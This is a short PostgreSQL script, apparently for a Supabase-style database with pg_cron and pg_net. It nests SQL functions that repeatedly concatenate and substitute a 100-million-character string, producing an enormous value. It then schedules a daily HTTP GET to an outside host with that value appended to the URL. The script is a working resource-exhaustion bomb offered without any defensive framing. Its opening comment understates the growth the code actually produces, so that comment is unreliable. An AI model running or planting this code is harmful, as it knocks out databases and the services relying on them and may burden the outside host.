-- Each function says twice what the one before says: 2^40 times in all.
create function f0() returns text language sql as $$ select 'https://h.net/' || repeat('a', 100000000) $$;
create function f1() returns text language sql as $$ select f0() || f0() $$;
create function f2() returns text language sql as $$ select f1() || f1() $$;
create function f3() returns text language sql as $$ select f2() || f2() $$;
create function f4() returns text language sql as $$ select f3() || f3() $$;
create function f5() returns text language sql as $$ select f4() || f4() || replace(f4(), 'a', f4()) $$;
create function f6() returns text language sql as $$ select f5() || f5() || f5() || f5() || f5() || f5() || f5() || f5() $$;
create function f7() returns text language sql as $$ select f6() || f6() || f6() || f6() || f6() || f6() || f6() || f6() $$;
create function f8() returns text language sql as $$ select f7() || f7() || f7() || f7() || f7() || f7() || f7() || f7() $$;
create function f9() returns text language sql as $$ select f8() || f8() || f8() || f8() || f8() || f8() || f8() || f8() $$;
create function fa() returns text language sql as $$ select f9() || f9() || f9() || f9() || f9() || f9() || f9() || f9() $$;
create function fb() returns text language sql as $$ select fa() || fa() || fa() || fa() || fa() || fa() || fa() || fa() $$;
create function fc() returns text language sql as $$ select fb() || fb() || fb() || fb() || fb() || fb() || fb() || fb() $$;
select cron.schedule('a', '0 7 * * *', 'select net.http_get(fc())');
